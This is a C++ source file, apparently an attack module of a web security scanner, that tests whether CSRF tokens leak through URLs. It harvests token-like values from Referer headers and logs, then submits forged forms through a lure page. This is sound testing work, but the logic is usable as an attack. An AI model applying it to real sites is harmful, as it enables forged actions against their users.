// csrf-leaked-token: a token that was in an address. The attacker finds it in the Referer of a
// request to a host of his, where a link of the app's pages leads, and in the app's log if he can
// read that (OWASP CSRF Prevention Cheat Sheet: tokens neither in URLs nor in logs).
#include <algorithm>

#include "core/attack/every_agent.h"
#include "core/attack/leaks.h"
#include "core/attack/lure.h"
#include "core/attack/own_form.h"
#include "core/attack/stolen.h"

namespace parapet::attack {
namespace {

constexpr std::size_t kMostTold = 6;

class CsrfLeakedToken final : public Agent {
    void run(Target& target) override {
        OwnHost* host = any_host(target);
        if (host == nullptr) return;
        std::vector<http::QueryPair> own;
        std::vector<Endpoint const*> const endpoints = unsafe_endpoints(target);
        for (OwnForm& each : look_at_forms(target, endpoints, As::Attacker))
            for (http::QueryPair& token : each.tokens) own.push_back(std::move(token));
        if (!victim_signs_in(target)) return;
        host->answer(host->folder(), page("<h1>News</h1>"));
        victim_does(target, routines_option(target, option::kDoes));
        target.victim()->turns_away();
        Lure lure(target, *host);
        for (Endpoint const* each : endpoints) lure.show(submitting(refused(target, *each, own)));
        std::vector<http::QueryPair> const tokens = tokens_told(target, own);
        target.note("Addresses told " + std::to_string(tokens.size()) +
                    " value(s) that may be tokens.");
        for (Endpoint const* each : endpoints)
            for (http::QueryPair const& token : tokens) {
                ForgedForm form{.action = address_of(target, *each),
                                .fields = wanted_fields(*each)};
                std::vector<http::QueryPair> query{token};
                if (each->method != "POST") query.push_back({"_method", each->method});
                form.fields.push_back(token);
                form.action += "?" + http::serialize_query(query);
                lure.show(submitting(form));
            }
    }

    // With wrong tokens, and nothing to change: what is refused may be written down, with what
    // would have been right.
    static ForgedForm refused(Target const& target, Endpoint const& endpoint,
                              std::vector<http::QueryPair> const& own) {
        ForgedForm form{.action = address_of(target, endpoint), .fields = wanted_fields(endpoint)};
        for (http::QueryPair& each : form.fields) each.value.clear();
        for (http::QueryPair const& each : own) form.fields.push_back(each);
        return form;
    }

    // The latest first: a session's token may have been renewed.
    static std::vector<http::QueryPair> tokens_told(Target& target,
                                                    std::vector<http::QueryPair> const& own) {
        std::vector<http::QueryPair> found;
        for (OwnHost* host : target.hosts())
            for (http::Request const& request : host->received())
                add_pairs(found, target, request.headers.get("referer").value_or(""));
        if (target.leaks() != nullptr)
            for (std::string const& line : target.leaks()->log()) {
                add_pairs(found, target, line);
                add_like(found, own, line);
            }
        std::reverse(found.begin(), found.end());
        if (found.size() > kMostTold) found.resize(kMostTold);
        return found;
    }

    // What is as long as the attacker's own token, whoever wrote it there.
    static void add_like(std::vector<http::QueryPair>& to, std::vector<http::QueryPair> const& own,
                         std::string const& text) {
        constexpr std::size_t kMostOfLine = 8;
        for (std::string const& told : tokens_in(text, kMostOfLine))
            for (http::QueryPair const& each : own) {
                http::QueryPair const pair{each.name, told};
                bool const is_like = told.size() == each.value.size() && told != each.value;
                if (is_like && std::find(to.begin(), to.end(), pair) == to.end())
                    to.push_back(pair);
            }
    }

    // Of every query in the text; what the surface names is no token.
    static void add_pairs(std::vector<http::QueryPair>& to, Target const& target,
                          std::string const& text) {
        for (std::size_t at = text.find('?'); at != std::string::npos; at = text.find('?', at)) {
            std::size_t const end = std::min(text.find_first_of("\"'<> #", ++at), text.size());
            for (http::QueryPair& each : http::parse_query(text.substr(at, end - at))) {
                bool const may_be = !each.value.empty() && !is_known(target, each);
                if (may_be && std::find(to.begin(), to.end(), each) == to.end())
                    to.push_back(std::move(each));
            }
        }
    }

    static bool is_known(Target const& target, http::QueryPair const& pair) {
        for (Endpoint const& endpoint : target.surface().endpoints)
            for (Parameter const& each : endpoint.parameters)
                if (each.name == pair.name && !is_token_name(pair.name)) return true;
        return false;
    }
};

}  // namespace

std::unique_ptr<Agent> make_csrf_leaked_token() { return std::make_unique<CsrfLeakedToken>(); }

}  // namespace parapet::attack
